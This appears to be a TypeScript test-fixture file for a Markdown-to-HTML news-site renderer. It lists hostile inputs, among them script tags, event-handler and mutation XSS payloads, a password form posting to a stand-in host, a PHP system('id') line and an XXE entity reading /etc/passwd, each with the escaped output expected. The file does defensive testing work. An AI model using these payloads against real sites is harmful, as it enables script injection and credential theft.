/** HTML where words belong: in the text, in headings, boxes, tables, captions, and in shapes that parsers read differently. */
import { RUN_ME } from "./canary.ts";
import { anyOf, noFeature, shows } from "./harm.ts";
import { harmlessPage, refusedBody, shownBody } from "./harmless-article.ts";
import type { Harm, HostileInput } from "./hostile-input.ts";
import { plainPng } from "./photo-bytes.ts";
import { MONTH } from "./sound-newsroom.ts";

const asMarkup = (text: string): Harm => shows(text, `${text} as markup`);

function tag(id: string, attack: string, body: string, mark: string, words: readonly string[]): HostileInput {
  return shownBody("markup", { id, attack, stock: asMarkup(mark) }, body, words);
}

/** Where only this product has the thing: what its own page holds without the guard. */
function own(
  id: string,
  attack: string,
  body: string,
  mark: string,
  words: readonly string[],
  guard: NonNullable<HostileInput["unguarded"]>["guard"],
): HostileInput {
  const attempt = { id, attack, stock: noFeature, unguarded: { guard, harm: asMarkup(mark) } };
  return shownBody("markup", attempt, body, words);
}

export const MARKUP: readonly HostileInput[] = [
  tag(
    "script-in-body",
    "a script between paragraphs and within one",
    `Trước.\n\n<script>${RUN_ME}</script>\n\nGiữa <script src=https://vi.example/x.js></script> câu.\n`,
    "<script src=https://vi.example/x.js>",
    [`<script>${RUN_ME}</script>`, "<script src=https://vi.example/x.js>"],
  ),
  tag(
    "event-handlers",
    "elements that run something when they load, fail or are touched",
    "<img src=x onerror=alert(1)> <body onload=alert(2)> <details open ontoggle=alert(3)> <b onpointerenter=alert(4)>chữ</b>\n",
    "<img src=x onerror=alert(1)>",
    ["<img src=x onerror=alert(1)>", "<body onload=alert(2)>"],
  ),
  tag(
    "frames",
    "a frame of another site, as a frame, an object and an embedded file",
    '<iframe src="https://vi.example/" srcdoc="<script>alert(1)</script>"></iframe>\n\n<object data="https://vi.example/x.swf"></object>\n\n<embed src="https://vi.example/x">\n',
    '<iframe src="https://vi.example/"',
    ["<iframe src=", "<object data=", "<embed src="],
  ),
  tag(
    "foreign-elements",
    "scripts within SVG and MathML",
    "<svg><script>alert(1)</script><animate onbegin=alert(2) attributeName=x></svg>\n\n<math><mtext><table><mglyph><style><img src onerror=alert(3)></style></mglyph></table></mtext></math>\n",
    "<svg><script>",
    ["<svg><script>alert(1)</script>", "<math><mtext>"],
  ),
  tag(
    "page-takeover",
    "what changes the page around: base, refresh, a style sheet, an imported one",
    '<base href="https://vi.example/">\n\n<meta http-equiv="refresh" content="0;url=https://vi.example/">\n\n<style>@import url(https://vi.example/x.css); main { display: none }</style>\n\n<link rel="stylesheet" href="https://vi.example/x.css">\n',
    '<meta http-equiv="refresh"',
    ["<base href=", "<meta http-equiv=", "<style>@import", "<link rel="],
  ),
  tag(
    "foreign-form",
    "a form that asks readers for their password and sends it elsewhere",
    '<form action="https://vi.example/" method="post"><input name="mat-khau" type="password"><button formaction="javascript:alert(1)">Gửi</button></form>\n',
    '<form action="https://vi.example/"',
    ["<form action=", "formaction="],
  ),
  tag(
    "main-closed",
    "closing tags of the page's own parts",
    "Một.\n\n</p></div></article></main></body></html>\n\nHai </main> ba <main id=khu--chinh>.\n",
    "</main></body></html>",
    ["</main></body></html>", "<main id=khu--chinh>"],
  ),
  tag(
    "cdata-and-friends",
    "CDATA, processing instructions and doctypes",
    "Một <![CDATA[<script>alert(1)</script>]]> hai.\n\n<?php system('id') ?>\n\n<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>\n",
    "<?php system('id') ?>",
    ["<![CDATA[<script>alert(1)</script>]]>", "<?php system(", "<!DOCTYPE html"],
  ),
  refusedBody(
    "markup",
    {
      id: "html-comment",
      attack: "a comment, which may hide words and, for some browsers, conditions",
      stock: asMarkup("<!--[if IE]>"),
    },
    "Một.\n\n<!--[if IE]><script>alert(1)</script><![endif]-->\n\nHai <!-- ba --!> bốn.\n",
    "loi-ghi-rieng",
  ),
  tag(
    "half-open-tags",
    "tags that are never closed, quotation marks that are never closed",
    'Một <img src="x` onerror=alert(1) //\n\n<a href="javascript:alert(2)\n\n<div title="\n\nHai <script\n\n<svg/onload=alert(3)//\n',
    '<div title="',
    ["<svg/onload=alert(3)//", "<script"],
  ),
  tag(
    "entities-once",
    "tags written with entities: the text shows them, and decodes no second time",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt; &#60;img src=x onerror=alert(2)&#62; &#x3c;b&#x3e;\n\n<b>&lt;i&gt;</b>\n",
    "<b>&lt;i&gt;</b>",
    ["<script>alert(1)</script>", "&lt;script&gt;", "<img src=x onerror=alert(2)>"],
  ),
  tag(
    "mutation-noscript",
    "markup that is one thing with scripts and another without",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n\n<template><script>alert(2)</script></template>\n\n<textarea></textarea><title></title><script>alert(3)</script>\n',
    "<noscript><p title=",
    ["<noscript><p title=", "</noscript><img src=x onerror=alert(1)>", "<template><script>"],
  ),
  tag(
    "mutation-nesting",
    "markup that turns into a script when it is written and read again",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">\n\n<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(2)>\n\n<select><template><xmp><img src=x onerror=alert(3)>\n',
    "<svg></p><style><a id=",
    ["<svg></p><style><a id=", "<form><math><mtext></form>"],
  ),
  tag(
    "tags-in-headings",
    "headings with scripts, attributes and quotation marks in them",
    '## <script>alert(1)</script>\n\nMột.\n\n## "><img src=x onerror=alert(2)>\n\nHai.\n\n## A" onmouseover="alert(3)\n\nBa.\n\n### \' onfocus=alert(4) tabindex=1\n\nBốn.\n',
    "<script>alert(1)</script>",
    ["<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "onfocus=alert(4)"],
  ),
  shownBody(
    "markup",
    {
      id: "clobbering-headings",
      attack: "headings whose anchors would be names that scripts and the page itself go by",
      stock: noFeature,
      unguarded: {
        guard: "heading-anchors",
        harm: shows('<h2 id="khu--chinh">', "a heading in the place of the page's main part"),
      },
    },
    [
      ...[
        "body",
        "location",
        "khu--chinh",
        "khu--moi-nhat",
        "o--ho-ten",
        "__proto__",
        "constructor",
        "document",
        "chu-thich_1",
      ],
      ...["ve-chu-thich_1", "khu--chinh", "Mục", "mục", "mục-2", "Mục", "😀", "!!!", "top", "name"],
    ]
      .map((name) => `## ${name}\n\nChữ.[^1]\n`)
      .join("\n")
      .concat("\n[^1]: Lời chú.\n"),
    ["khu--chinh", "chu-thich_1", "constructor"],
  ),
  own(
    "box-title",
    "a box whose title leaves its attribute and its paragraph",
    '::: ghi-chu " onmouseover=alert(1) x="</p><script>alert(2)</script>\nChữ.\n:::\n\n::: khen-thuong <img src=x onerror=alert(3)>\nChữ.\n:::\n',
    "<script>alert(2)</script>",
    ["<script>alert(2)</script>", "<img src=x onerror=alert(3)>"],
    "escape-html",
  ),
  tag(
    "table-cells",
    "a table with scripts in its heads, its cells and its alignment",
    '| <script>alert(1)</script> | " onclick=alert(2) x=" |\n| :-: | ---: |\n| <img src=x onerror=alert(3)> | `</table></section>` |\n',
    "<img src=x onerror=alert(3)>",
    ["<script>alert(1)</script>", "<img src=x onerror=alert(3)>", "</table></section>"],
  ),
  tag(
    "footnote-labels",
    "footnotes whose names and texts are markup",
    'Một[^"><script>alert(1)</script>] hai[^x].\n\n[^"><script>alert(1)</script>]: <b onclick=alert(2)>Chú</b>\n\n[^x]: " onclick=alert(3)\n',
    "<b onclick=alert(2)>",
    ["<b onclick=alert(2)>"],
  ),
  tag(
    "fence-language",
    "code whose language leaves its attribute, and whose text closes its element",
    '```x"onclick=alert(1)><script>alert(2)</script>\n</code></pre><script>alert(3)</script>\n```\n\nVà `<script>alert(4)</script>` giữa dòng. <i>nghiêng</i>\n',
    "<i>nghiêng</i>",
    ["</code></pre><script>alert(3)</script>", "<script>alert(4)</script>"],
  ),
  tag(
    "quotations",
    "markup deep in quotations and lists",
    '> > - <iframe src=javascript:alert(1)>\n> >   1. <a href="data:text/html,<script>alert(2)</script>">x</a>\n',
    "<iframe src=javascript:alert(1)>",
    ["<iframe src=javascript:alert(1)>", "<a href="],
  ),
  tag(
    "link-titles",
    "titles and texts of links that leave their attributes",
    '[một](https://a.example/ "\\"><b onclick=alert(1)>") [<img src=x onerror=alert(2)>](https://b.example/) [x][y]\n\n[y]: https://c.example/ \'"><script>alert(3)</script>\'\n',
    "<img src=x onerror=alert(2)>",
    ["<img src=x onerror=alert(2)>"],
  ),
  {
    id: "caption-breakout",
    attack: "a photo's description, caption and credit that leave their attributes and elements",
    threat: "markup",
    files: {
      [`${MONTH}/caption-breakout.md`]: [
        "---",
        "title: Tin ảnh",
        "date: 2023-06-05",
        "section: chinh-tri",
        "summary: Nước lên.",
        "photo:",
        "  src: a.png",
        `  alt: '"><script>alert(1)</script>'`,
        `  caption: '</figcaption><script>alert(2)</script>'`,
        `  credit: '<img src=x onerror=alert(3)>'`,
        "---",
        `![" onerror=alert(4) x="](a.png "<script>alert(5)</script>. Ảnh: <b onclick=alert(6)>A</b>")`,
        "",
      ].join("\n"),
      [`${MONTH}/caption-breakout/a.png`]: plainPng(640, 480),
    },
    expected: harmlessPage("caption-breakout", [
      "</figcaption><script>alert(2)</script>",
      "<img src=x onerror=alert(3)>",
      "<script>alert(5)</script>",
      "<b onclick=alert(6)>A</b>",
    ]),
    stock: anyOf(asMarkup("<script>alert(1)</script>"), asMarkup("<script>alert(2)</script>")),
  },
];
